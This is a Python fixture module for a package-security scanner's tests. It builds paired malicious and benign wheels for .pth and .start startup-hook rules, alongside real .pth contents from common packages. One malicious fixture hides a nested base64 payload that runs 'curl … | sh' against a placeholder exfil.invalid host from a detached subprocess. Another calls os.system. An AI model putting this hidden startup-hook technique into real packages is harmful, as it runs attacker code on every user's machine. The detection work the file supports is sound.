"""Paired fixtures for the `.pth` / `.start` rules (CW100-CW106), built in code.

`FIXTURES[rule_id] = (malicious_builder, benign_builder)`: each builder writes one artifact
(a wheel) under the directory it is given and returns its path. The malicious one must raise
the rule, the benign one must not. Network targets are `.invalid` names only.
"""

from __future__ import annotations

import base64
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

from chainwarden.artifact import Artifact
from chainwarden.models import ArtifactKind, ArtifactRef, Member
from chainwarden.sources.wheel import wheel_install_path
from support.packages import make_wheel

Builder = Callable[[Path], Path]

# Real contents of legitimate .pth files (read from the published wheels).
DISTUTILS_PRECEDENCE = (
    b"import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    b"enabled and __import__('_distutils_hack').add_shim(); \n"
)
PYTEST_COV = (
    b"import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n"
    b'  init()\\n except Exception as exc:\\n  sys.stderr.write(\\n   "pytest-cov: Failed to setup subprocess '
    b'coverage. "\\n   "Environ: {0!r} "\\n   "Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in '
    b"os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
)
COVERAGE = (
    b'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    b'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  '
    b'coverage.process_startup(slug="pth")\')\n'
)
COVERAGE_ENABLE_SUBPROCESS = (
    b"import sys; exec(u'try:\\n    import coverage\\n# coverage throws OSError when $PWD does not exist\\n"
    b"except (ImportError, OSError):\\n    pass\\nelse:\\n    coverage.process_startup()\\n')\n\n"
)
NSPKG = (
    b"import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals"
    b"['sitedir'], *('google',));importlib = has_mfs and __import__('importlib.util');has_mfs and "
    b"__import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('google', "
    b"importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('google', "
    b"[os.path.dirname(p)])));m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
    b"mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
MANHOLE = (
    b'import os, sys;exec(\'if "PYTHONMANHOLE" in os.environ:\\n try:\\n  from manhole import install\\n  '
    b'eval("install({0[PYTHONMANHOLE]})".format(os.environ))\\n except Exception as exc:\\n  '
    b'sys.stderr.write("Failed to manhole.install({[PYTHONMANHOLE]}): {!r}\\\\n".format(os.environ, exc))\\n\')\n'
)
PDBPP = (
    b"# This script is used by Python's site module.\n"
    b"# Doc: https://docs.python.org/3/library/site.html\n"
    b"# Code: https://github.com/blueyed/cpython/blob/1b293b600/Lib/site.py#L148-L187\n"
    b"#\n"
    b"# See `setup.py` for a similar setup for editable installs.\n"
    b"#\n"
    b'# Add our "_pdbpp_path_hack" to the beginning of `sys.path` if:\n'
    b"# 1. the environment variable PDBPP_HIJACK_PDB is trueish (as an int), defaults to 1.\n"
    b"#    i.e. PDBPP_HIJACK_PDB=0 can be used to disable it.\n"
    b"# 2. there is not another one already at the beginning\n"
    b'#    (e.g. via a virtualenv using "include-system-site-packages")\n'
    b'import os; _pdbpp_path = f"{os.path.sep}_pdbpp_path_hack"; import sys; sys.path.insert(0, makepath(sitedir, "_pdbpp_path_hack")[0]) if int(os.environ.get(\'PDBPP_HIJACK_PDB\', 1)) and not sys.path[0].endswith(_pdbpp_path) else None\n'
)
PIP_SYSTEM_CERTS = (
    b"import os, sys; __import__('pip_system_certs.bootstrap') and "
    b"sys.modules['pip_system_certs.bootstrap'].bootstrap()\n"
)
PYWIN32 = (
    b"# .pth file for the PyWin32 extensions\r\nwin32\r\nwin32\\lib\r\npythonwin\r\n"
    b"# And some hackery to deal with environments where the post_install script\r\n# isn't run.\r\n"
    b"import pywin32_bootstrap\r\n"
)
HUNTER = b"import hunter; hunter._embed_via_environment()\n"
FUTURE_FSTRINGS = (
    b"import sys; exec('try:\\n    import future_fstrings\\nexcept ImportError:\\n    pass\\nelse:\\n"
    b"    future_fstrings.register()\\n')\n\n"
)
VIRTUALENV = b"import _virtualenv\n"
EDITABLE = b"import __editable___demo_1_0_finder; __editable___demo_1_0_finder.install()\n"
PLAIN_PATH = b"src\n"

LEGITIMATE: dict[str, bytes] = {
    "distutils-precedence.pth": DISTUTILS_PRECEDENCE,
    "pytest-cov.pth": PYTEST_COV,
    "a1_coverage.pth": COVERAGE,
    "coverage_enable_subprocess.pth": COVERAGE_ENABLE_SUBPROCESS,
    "protobuf-3.20.3-py3.10-nspkg.pth": NSPKG,
    "_virtualenv.pth": VIRTUALENV,
    "__editable__.demo-1.0.pth": EDITABLE,
    "demo.pth": PLAIN_PATH,
    "manhole.pth": MANHOLE,
    "pdbpp_hijack_pdb.pth": PDBPP,
    "pip_system_certs.pth": PIP_SYSTEM_CERTS,
    "pywin32.pth": PYWIN32,
    "hunter.pth": HUNTER,
    "aaaaa_future_fstrings.pth": FUTURE_FSTRINGS,
}

_STAGE2 = base64.b64encode(b"import os\nos.system('curl -s https://exfil.invalid/x | sh')\n").decode()
_STAGE1 = base64.b64encode(f"import base64\nexec(base64.b64decode('{_STAGE2}'))\n".encode()).decode()
#: The shape of litellm 1.82.8's `litellm_init.pth`: a child interpreter running nested base64.
LITELLM_LINE = (
    'import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; '
    f"exec(base64.b64decode('{_STAGE1}'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, "
    "start_new_session=True)\n"
).encode()


def write_wheel(dest: Path, name: str, files: Mapping[str, bytes], *, tag: str = "py3-none-any") -> Path:
    """A well-formed wheel (METADATA, WHEEL, RECORD with hashes) under `dest`; paths under
    `{name}-1.0.data/` are kept where they are (installers route them to site-packages)."""
    dest.mkdir(parents=True, exist_ok=True)
    return make_wheel(dest, name, "1.0", dict(files), tag=tag)


def _pth_wheel(files: Mapping[str, bytes]) -> Builder:
    def build(dest: Path) -> Path:
        return write_wheel(dest, "demo", {"demo/__init__.py": b"", **files})

    return build


FIXTURES: dict[str, tuple[Builder, Builder]] = {
    "CW100": (_pth_wheel({"_virtualenv.pth": VIRTUALENV}), _pth_wheel({"demo.pth": PLAIN_PATH})),
    "CW101": (
        _pth_wheel({"demo_boot.pth": b"import os; os.system('id > /dev/null')\n"}),
        _pth_wheel({"distutils-precedence.pth": DISTUTILS_PRECEDENCE}),
    ),
    "CW102": (
        _pth_wheel({"litellm_init.pth": LITELLM_LINE}),
        _pth_wheel({"pytest-cov.pth": PYTEST_COV}),
    ),
    "CW103": (
        _pth_wheel({"demo.pth": b"# demo path hook\x0cimport demo_boot\n"}),
        _pth_wheel({"demo.pth": b"# demo path hook\nimport demo_boot\n"}),
    ),
    "CW104": (
        _pth_wheel({"demo.start": b"# PEP 829\ndemo.boot:run\n"}),
        _pth_wheel({"demo/notes.start": b"demo.boot:run\n"}),
    ),
    "CW105": (
        _pth_wheel({"demo.pth": b"demo_hooks\n", "demo_hooks/sitecustomize.py": b"import demo\n"}),
        _pth_wheel({"demo.pth": b"demo_hooks\n", "demo_hooks/helpers.py": b"X = 1\n"}),
    ),
    "CW106": (_pth_wheel({"demo.pth": b"/tmp/demo-cache\n"}), _pth_wheel({"demo.pth": b"demo_src\n"})),
}


class DictArtifact(Artifact):
    """An artifact over a dict of files, with `install_path` set the way installers do."""

    def __init__(
        self, files: Mapping[str, bytes], kind: ArtifactKind = ArtifactKind.WHEEL, label: str = "demo"
    ) -> None:
        self.ref = ArtifactRef(kind, label, label=label)
        self.metadata = None
        self._files = dict(files)
        wheel = kind is ArtifactKind.WHEEL
        self._members = [
            Member(p, len(d), install_path=wheel_install_path(p) if wheel else "") for p, d in files.items()
        ]

    def members(self) -> list[Member]:
        return self._members

    def read(self, path: str) -> bytes:
        return self._files[path]


def open_fixture(path: Path) -> DictArtifact:
    """Open a built fixture with the stdlib only, so analyzer tests do not depend on the
    archive readers (which have their own tests)."""
    files: dict[str, bytes] = {}
    if path.name.endswith(".whl"):
        with zipfile.ZipFile(path) as zf:
            files = {n: zf.read(n) for n in zf.namelist() if not n.endswith("/")}
        return DictArtifact(files, ArtifactKind.WHEEL, path.name)
    with tarfile.open(path) as tf:
        for info in tf.getmembers():
            fh = tf.extractfile(info)
            if fh is not None:
                files[info.name] = fh.read()
    return DictArtifact(files, ArtifactKind.SDIST, path.name)
